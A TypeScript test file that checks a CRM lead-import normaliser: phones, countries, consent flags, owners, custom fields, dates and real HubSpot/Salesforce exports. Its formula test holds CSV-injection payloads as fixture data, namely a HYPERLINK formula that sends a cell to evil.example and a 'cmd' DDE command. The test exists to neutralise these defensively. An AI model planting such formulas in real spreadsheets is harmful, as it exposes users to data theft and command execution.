import path from 'node:path';
import { normalisePhone, type CustomFieldDef } from '@sdr/domain';
import { describe, expect, it } from 'vitest';
import { z } from 'zod';
import type { ImportMapping } from './mapping.ts';
import { suggestMapping } from './mapping.ts';
import {
  createRowNormaliser,
  normaliseRow,
  type ImportedLead,
  type NormaliseOptions,
  type RowResult,
} from './normalise-row.ts';
import { openImportFile } from './read-file.ts';

const fixture = (name: string): string => path.join(import.meta.dirname, 'fixtures', name);

/** One row through a one-or-more-column file: header → cell. */
function row(cells: Record<string, string>, options: NormaliseOptions = {}): RowResult {
  const headers = Object.keys(cells);
  return normaliseRow(
    Object.values(cells),
    headers,
    suggestMapping(headers, options.customFields),
    options,
  );
}

function fields(result: RowResult): ImportedLead {
  if (!result.ok) throw new Error(`expected ok, got ${JSON.stringify(result.errors)}`);
  return result.fields;
}

describe('normaliseRow: values', () => {
  it.each([
    [{ 'First Name': '  Ada ' }, { firstName: 'Ada' }],
    [{ Email: ' Ada@Example.COM ' }, { email: 'ada@example.com' }],
    [{ Phone: '+1 (415) 555-0123' }, { phone: '+14155550123', timezone: 'America/New_York' }],
    [
      { Country: 'Deutschland', Phone: '030 1234567' },
      { country: 'DE', phone: '+49301234567', timezone: 'Europe/Berlin' },
    ],
    [{ Country: 'United Kingdom' }, { country: 'GB', timezone: 'Europe/London' }],
    [
      { Country: 'US', 'Time Zone': 'america/los_angeles' },
      { country: 'US', timezone: 'America/Los_Angeles' },
    ],
    [{ 'Number of Employees': '51-200' }, { companySize: 51 }],
    [{ 'Number of Employees': '1,000' }, { companySize: 1000 }],
    [{ Website: 'https://www.Example.com/' }, { website: 'https://www.example.com' }],
    [{ Tags: 'vip; webinar, vip' }, { tags: ['vip', 'webinar'] }],
    [{ 'Email Consent': 'opted in' }, { consentEmail: 'granted' }],
    [{ 'SMS Consent': 'no' }, { consentSms: 'denied' }],
    [{ 'Call Consent': '' }, {}],
    [{ 'Do Not Contact': 'yes' }, { doNotContact: true }],
    [{ 'Do Not Contact': 'false' }, { doNotContact: false }],
    [{ 'Create Date': '2024-03-05 14:22' }, { createdAt: Date.UTC(2024, 2, 5, 14, 22) }],
    [{ CreatedDate: '2024-02-01T10:15:00.000Z' }, { createdAt: Date.UTC(2024, 1, 1, 10, 15) }],
    [{ 'Lead Status': 'Working' }, { status: 'Working' }],
    [{ 'Full Name': 'Mary Ann Smith' }, { firstName: 'Mary Ann', lastName: 'Smith' }],
    [{ Name: 'Cher' }, { firstName: 'Cher' }],
    [{ Name: 'Ada Lovelace', 'First Name': 'Augusta' }, { firstName: 'Augusta' }],
    // Empty cells give nothing (they never overwrite), placeholders in typed columns are empty.
    [{ Email: '', Phone: '  ', Website: 'n/a', 'Number of Employees': '-', Country: '—' }, {}],
    [{ Title: '-' }, { title: '-' }],
  ] as [Record<string, string>, ImportedLead][])('%j → %j', (cells, expected) => {
    expect(fields(row(cells))).toEqual(expected);
  });

  it('reads the phone in the row country, then the default country', () => {
    expect(
      fields(row({ Country: 'GB', Phone: '020 7946 0958' }, { defaultCountry: 'US' })),
    ).toMatchObject({
      phone: '+442079460958',
    });
    expect(fields(row({ Phone: '(415) 555-0123' }, { defaultCountry: 'US' }))).toMatchObject({
      phone: '+14155550123',
    });
    expect(row({ Phone: '(415) 555-0123' })).toMatchObject({
      ok: false,
      errors: [{ column: 'Phone', message: expect.stringMatching(/country code/) }],
    });
  });

  it('derives the time zone from the phone first, then the country', () => {
    expect(fields(row({ Phone: '+14165550123', Country: 'US' }))).toMatchObject({
      timezone: 'America/Toronto',
    });
    expect(fields(row({ Phone: '+80012345678', Country: 'FR' }))).toMatchObject({
      timezone: 'Europe/Paris',
    });
    expect(fields(row({ Email: 'x@example.com' }))).not.toHaveProperty('timezone');
  });

  it('turns opt-out flags into denied consent, and "not opted out" into nothing', () => {
    expect(fields(row({ HasOptedOutOfEmail: '1', DoNotCall: 'true' }))).toEqual({
      consentEmail: 'denied',
      consentCalls: 'denied',
    });
    expect(fields(row({ HasOptedOutOfEmail: '0', DoNotCall: 'false' }))).toEqual({});
    const conflict = row({ 'Email Consent': 'yes', 'Unsubscribed from all email': 'true' });
    expect(conflict).toMatchObject({
      ok: true,
      fields: { consentEmail: 'denied' },
      warnings: [{ code: 'consent_conflict', column: 'Unsubscribed from all email' }],
    });
  });

  it('matches statuses to pipeline stages by key or label', () => {
    const statuses = [
      { key: 'new', label: 'New' },
      { key: 'working', label: 'Working - Contacted' },
    ];
    expect(fields(row({ Status: 'working - contacted' }, { statuses }))).toEqual({
      status: 'working',
    });
    expect(fields(row({ Status: 'NEW' }, { statuses }))).toEqual({ status: 'new' });
    expect(row({ Status: 'Bad timing' }, { statuses })).toMatchObject({
      ok: false,
      errors: [
        {
          column: 'Status',
          value: 'Bad timing',
          message: expect.stringMatching(/not a pipeline stage \(new, working\)/),
        },
      ],
    });
  });

  it('resolves owners by id, email or name; an unknown owner leaves the lead unassigned', () => {
    const owners = [{ id: 'u1', name: 'Sam Seller', email: 'sam@example.com' }];
    expect(fields(row({ 'Contact owner': 'sam seller' }, { owners }))).toEqual({ ownerId: 'u1' });
    expect(fields(row({ 'Lead Owner': 'SAM@example.com' }, { owners }))).toEqual({ ownerId: 'u1' });
    expect(row({ 'Owner Name': 'Nobody' }, { owners })).toEqual({
      ok: true,
      fields: {},
      warnings: [
        {
          column: 'Owner Name',
          value: 'Nobody',
          code: 'owner_not_found',
          message: 'No user "Nobody" in this workspace; the lead is left unassigned',
        },
      ],
    });
  });

  it('reads custom fields by their type', () => {
    const customFields: CustomFieldDef[] = [
      { key: 'plan', label: 'Plan', type: 'select', options: ['Free', 'Pro'] },
      { key: 'seats', label: 'Seats', type: 'number' },
      { key: 'renewal', label: 'Renewal', type: 'date' },
      { key: 'trial', label: 'Trial', type: 'boolean' },
      { key: 'products', label: 'Products', type: 'multiselect', options: ['Dialer', 'Inbox'] },
      { key: 'note', label: 'Note', type: 'text' },
    ];
    const options = { customFields, dateOrder: 'dmy' as const };
    expect(
      fields(
        row(
          {
            Plan: 'pro',
            Seats: '1,500',
            Renewal: '05/03/2025',
            Trial: 'no',
            Products: 'inbox;dialer',
            Note: '-',
          },
          options,
        ),
      ),
    ).toEqual({
      custom: {
        plan: 'Pro',
        seats: 1500,
        renewal: '2025-03-05',
        trial: false,
        products: ['Inbox', 'Dialer'],
        note: '-',
      },
    });
    expect(row({ Plan: 'Enterprise', Seats: 'many' }, options)).toMatchObject({
      ok: false,
      errors: [
        { column: 'Plan', message: expect.stringMatching(/not an option of Plan/) },
        { column: 'Seats', message: expect.stringMatching(/not a number/) },
      ],
    });
  });

  it('reads ambiguous dates in the order given, or the default country', () => {
    expect(fields(row({ 'Create Date': '3/5/2024' }))).toEqual({ createdAt: Date.UTC(2024, 2, 5) });
    expect(fields(row({ 'Create Date': '3/5/2024' }, { defaultCountry: 'DE' }))).toEqual({
      createdAt: Date.UTC(2024, 4, 3),
    });
    expect(fields(row({ 'Create Date': '3/5/2024' }, { dateOrder: 'dmy' }))).toEqual({
      createdAt: Date.UTC(2024, 4, 3),
    });
    expect(
      fields(row({ 'Create Date': '2024-03-05 09:00' }, { timeZone: 'Europe/Berlin' })),
    ).toEqual({
      createdAt: Date.UTC(2024, 2, 5, 8, 0),
    });
    expect(row({ 'Create Date': '1969-07-20' })).toMatchObject({
      ok: false,
      errors: [{ message: /before 1970/ }],
    });
  });

  it('refuses a row with every bad cell listed, keeping column, value and message', () => {
    const result = row({
      Email: 'not-an-email',
      Phone: '+1 200 555 0123',
      Country: 'Narnia',
      'Number of Employees': 'lots',
      'Time Zone': 'EST',
      Website: 'ada@example.com',
      'Do Not Contact': 'perhaps',
      Tags: 'x'.repeat(65),
      'First Name': 'y'.repeat(201),
    });
    expect(result.ok).toBe(false);
    if (result.ok) return;
    expect(result.errors.map((e) => [e.column, e.value.slice(0, 20)])).toEqual([
      ['Country', 'Narnia'],
      ['Email', 'not-an-email'],
      ['Phone', '+1 200 555 0123'],
      ['Number of Employees', 'lots'],
      ['Time Zone', 'EST'],
      ['Website', 'ada@example.com'],
      ['Do Not Contact', 'perhaps'],
      ['Tags', 'x'.repeat(20)],
      ['First Name', 'y'.repeat(20)],
    ]);
    for (const e of result.errors) expect(e.message.length).toBeGreaterThan(5);
  });

  it('refuses a row with values beyond the last column', () => {
    const headers = ['Email', 'Company'];
    const mapping = suggestMapping(headers);
    expect(normaliseRow(['a@example.com', 'Acme', 'stray'], headers, mapping)).toMatchObject({
      ok: false,
      errors: [
        {
          column: 'column C',
          value: 'stray',
          message: 'This row has 3 values but the file has 2 columns',
        },
      ],
    });
    expect(normaliseRow(['a@example.com', 'Acme'], headers, mapping).ok).toBe(true);
  });

  it('takes the first non-empty of several columns for one field, and says what it left out', () => {
    const result = row({
      Phone: '',
      'Mobile Phone': '+44 20 7946 0958',
      'Work Phone': '+1 415 555 0123',
    });
    expect(result).toMatchObject({
      ok: true,
      fields: { phone: '+442079460958' },
      warnings: [
        {
          code: 'value_not_imported',
          column: 'Work Phone',
          message: expect.stringMatching(/"Mobile Phone"/),
        },
      ],
    });
    expect(fields(row({ Tags: 'a;b', Labels: 'b, c' }))).toEqual({ tags: ['a', 'b', 'c'] });
  });

  it('warns about an extension it cannot keep', () => {
    expect(row({ Phone: '+1 415 555 0123 ext. 42' })).toMatchObject({
      ok: true,
      fields: { phone: '+14155550123' },
      warnings: [{ code: 'phone_extension_dropped', message: expect.stringMatching(/42/) }],
    });
  });
});

describe('normaliseRow: formulas', () => {
  it('keeps formula-looking cells as literal text with a warning; phones and numbers are not formulas', async () => {
    const file = await openImportFile(fixture('formulas.csv'));
    const mapping: ImportMapping = { ...suggestMapping(file.headers), Notes: 'custom:notes' };
    const customFields: CustomFieldDef[] = [{ key: 'notes', label: 'Notes', type: 'text' }];
    const results: RowResult[] = [];
    for await (const r of file.rows())
      results.push(normaliseRow(r.cells, file.headers, mapping, { customFields }));
    const [eve, mallory, normal] = results;
    expect(eve).toMatchObject({
      ok: true,
      fields: {
        phone: '+14155550123',
        company: '=HYPERLINK("http://evil.example/?x="&A2,"Click me")',
        title: '=1+2',
        custom: { notes: '@SUM(A1:A9)' },
      },
    });
    expect(eve!.warnings.map((w) => [w.code, w.column])).toEqual([
      ['formula_kept_as_text', 'Company'],
      ['formula_kept_as_text', 'Title'],
      ['formula_kept_as_text', 'Notes'],
    ]);
    // "-" in the phone column is a placeholder; "-5 employees" and "+cmd…" are formula-like text.
    expect(mallory).toMatchObject({
      ok: true,
      fields: { company: '-5 employees', title: "+cmd|' /C calc'!A0", custom: { notes: '-2+3' } },
    });
    expect(mallory!.warnings.map((w) => w.column)).toEqual(['Company', 'Title', 'Notes']);
    expect(normal!.warnings.map((w) => [w.column, w.value])).toEqual([
      ['Title', '- team lead'],
      ['Notes', '@ mention'],
    ]);
  });
});

describe('normaliseRow: real exports end to end', () => {
  async function normaliseFile(
    name: string,
    options: NormaliseOptions,
  ): Promise<[number, RowResult][]> {
    const file = await openImportFile(fixture(name));
    const mapping = suggestMapping(file.headers, options.customFields);
    const out: [number, RowResult][] = [];
    for await (const r of file.rows())
      out.push([r.rowNumber, normaliseRow(r.cells, file.headers, mapping, options)]);
    return out;
  }
  const owners = [{ id: 'u1', name: 'Sam Seller', email: 'sam@example.com' }];

  it('imports the HubSpot export', async () => {
    const rows = await normaliseFile('hubspot-contacts.csv', { owners, defaultCountry: 'US' });
    expect(rows.map(([n, r]) => [n, r.ok])).toEqual([
      [2, true],
      [3, true],
      [4, true],
      [5, false],
    ]);
    expect(rows[0]![1]).toEqual({
      ok: true,
      warnings: [],
      fields: {
        country: 'US',
        firstName: 'Ada',
        lastName: 'Lovelace',
        email: 'ada.lovelace@example.com',
        phone: '+14155550123',
        company: 'Analytical Engines, Inc.',
        title: 'VP Engineering',
        industry: 'COMPUTER_SOFTWARE',
        companySize: 51,
        website: 'https://www.analytical.example.com',
        timezone: 'America/Los_Angeles',
        status: 'NEW',
        source: 'Organic search',
        ownerId: 'u1',
        createdAt: Date.UTC(2024, 2, 5, 14, 22),
      },
    });
    expect(rows[1]![1]).toMatchObject({
      ok: true,
      fields: {
        phone: '+442079460958',
        country: 'GB',
        timezone: 'Europe/London',
        consentEmail: 'denied',
        ownerId: 'u1',
      },
    });
    expect(rows[2]![1]).toMatchObject({
      ok: true,
      fields: {
        firstName: 'José',
        lastName: 'Müller',
        phone: '+49301234567',
        companySize: 10_000,
        timezone: 'Europe/Berlin',
      },
    });
    const bad = rows[3]![1];
    expect(bad.ok ? [] : bad.errors.map((e) => e.column)).toEqual([
      'Country/Region',
      'Email',
      'Number of Employees',
      'Time Zone',
      'Create Date',
    ]);
  });

  it('imports the Salesforce export', async () => {
    const rows = await normaliseFile('salesforce-leads.csv', { owners, defaultCountry: 'US' });
    expect(rows[0]![1]).toMatchObject({
      ok: true,
      fields: {
        country: 'GB',
        phone: '+441908640404',
        consentCalls: 'denied',
        ownerId: 'u1',
        website: 'www.bletchley.example.org',
      },
    });
    expect(rows[0]![1].ok && rows[0]![1].fields.consentEmail).toBeFalsy();
    expect(rows[1]![1]).toMatchObject({
      ok: true,
      fields: {
        phone: '+17575550100',
        consentEmail: 'denied',
        companySize: 5001,
        timezone: 'America/New_York',
      },
      warnings: [{ code: 'value_not_imported' }, { code: 'owner_not_found' }],
    });
  });

  it('produces values the lead record accepts (same email rule as zod, E.164, ISO codes)', async () => {
    const rows = await normaliseFile('hubspot-contacts.csv', { owners });
    const email = z.union([z.literal(''), z.email()]);
    for (const [, r] of rows) {
      if (!r.ok) continue;
      expect(email.safeParse(r.fields.email ?? '').success).toBe(true);
      expect(r.fields.phone ?? '').toMatch(/^$|^\+[1-9]\d{6,14}$/);
      expect(r.fields.country ?? '').toMatch(/^$|^[A-Z]{2}$/);
    }
  });
});

describe('normaliseRow: speed and caching', () => {
  it('normalises 100k rows at a small multiple of the unavoidable cost (parsing their phones)', () => {
    const headers = [
      'First Name',
      'Last Name',
      'Email',
      'Phone Number',
      'Company Name',
      'Country/Region',
      'Number of Employees',
      'Website URL',
      'Tags',
      'Create Date',
    ];
    const mapping = suggestMapping(headers);
    const options: NormaliseOptions = { defaultCountry: 'US' };
    const countries = ['US', 'Germany', 'United Kingdom', 'FR', 'Canada'];
    const phones = [
      '(415) 555-0123',
      '+49 30 12345678',
      '+44 20 7946 0958',
      '+33 6 12 34 56 78',
      '+1 416 555 0123',
    ];
    const N = 100_000;
    const rows = Array.from({ length: N }, (_, i) => [
      `First${i}`,
      `Last${i}`,
      `Lead.${i}@Example.com`,
      phones[i % phones.length]!,
      `Company ${i}, Inc.`,
      countries[i % countries.length]!,
      '51-200',
      `www.company${i}.example.com`,
      'vip; webinar',
      '2024-03-05 14:22',
    ]);
    // Timings on shared machines are noisy, so the bound is a ratio to a baseline measured in the
    // same run: libphonenumber parsing the same phones. A per-row regex compile or metadata reload
    // would cost 10x or more; the rest of the row is about as much again as its phone.
    const phoneBaseline = (): number => {
      const t = performance.now();
      for (let i = 0; i < N; i += 1) normalisePhone(phones[i % phones.length]!, 'US');
      return performance.now() - t;
    };
    const before = phoneBaseline();
    const started = performance.now();
    let ok = 0;
    for (const cells of rows) if (normaliseRow(cells, headers, mapping, options).ok) ok += 1;
    const elapsed = performance.now() - started;
    const baseline = Math.min(before, phoneBaseline());
    expect(ok).toBe(N);
    expect(elapsed / baseline).toBeLessThan(5);
    // And an absolute bound for a pathologically slow build (~1-4 s here; 2 cores, shared).
    expect(elapsed).toBeLessThan(30_000);
  });

  it('rejects a bad mapping up front', () => {
    expect(() => createRowNormaliser(['A'], { A: 'custom:nope' })).toThrow(/unknown custom field/);
  });
});
